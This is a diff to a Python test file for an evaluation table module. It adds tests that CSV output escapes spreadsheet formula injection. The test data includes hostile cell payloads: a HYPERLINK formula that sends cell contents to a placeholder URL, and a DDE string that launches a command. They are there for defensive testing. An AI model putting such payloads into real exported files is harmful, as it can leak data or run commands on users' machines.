@@ -12,6 +12,7 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from benchmarks.errors import DataError
+from eval.files import inert, write_rows
 from eval.table import Cell, Table, printed, printed_cell, to_csv, to_latex, to_markdown, write_tables
 
 HOSTILE = 'a|b & 50%_x #1 $y$ {z} ~^ \\n <b> "q", `c` *d* [e]\nsecond line\r\n'
@@ -127,6 +128,23 @@ def test_a_bracket_at_the_start_of_a_latex_line_is_no_argument_of_the_line_break
     assert "\n{}[1.0, 2.0] & " in to_latex(made(rows=(("[1.0, 2.0]", 1.0, 1.0), ("*", 1.0, 1.0))))
 
 
+FORMULAS = ['=HYPERLINK("http://x/"&A1,"y")', "+1+cmd|' /C calc'!A0", "-2+SUM(A1)", "@SUM(A1)", "\t=1", "\r=1", "\n=1"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_text_in_a_csv_file_is_a_formula(text: str, tmp_path: Path) -> None:
+    table = made(rows=((text, 1.0, 1.0),))
+    _, scores = write_rows(tmp_path, "scores", [{"model": text, "datasets": (text, "b"), "dds_pp": -1.5}])
+    for line in to_csv(table).partition("\n")[2], scores.read_bytes().decode().partition("\n")[2]:
+        assert next(csv.reader(io.StringIO(line, newline="")))[0] == f"'{text}"
+    assert scores.read_text().rstrip().endswith(",-1.5")
+
+
+@pytest.mark.parametrize("text", ["+1.2", "-3.0 [-5.1, 2.0]", "+0.4 ± 0.1", "-12%", "a=1", "–"])
+def test_a_number_as_we_print_it_stays_as_it_is_in_a_csv_file(text: str) -> None:
+    assert inert(text) == text
+
+
 @given(st.lists(st.tuples(cells, cells, cells), min_size=1, max_size=4))
 @example([("\r", None, "a\rb")])
 def test_any_table_can_be_read_back_from_its_csv(rows: list[tuple[Cell, Cell, Cell]]) -> None:
@@ -134,7 +152,7 @@ def test_any_table_can_be_read_back_from_its_csv(rows: list[tuple[Cell, Cell, Ce
     lines = list(csv.reader(io.StringIO(to_csv(table), newline="")))
     assert lines[0] == list(table.columns)
     for line, row in zip(lines[1:], rows, strict=True):
-        assert line == ["" if cell is None else str(cell) for cell in row]
+        assert line == ["" if cell is None else str(inert(cell)) for cell in row]
 
 
 @given(st.lists(st.tuples(cells, cells, cells), min_size=1, max_size=4), texts)
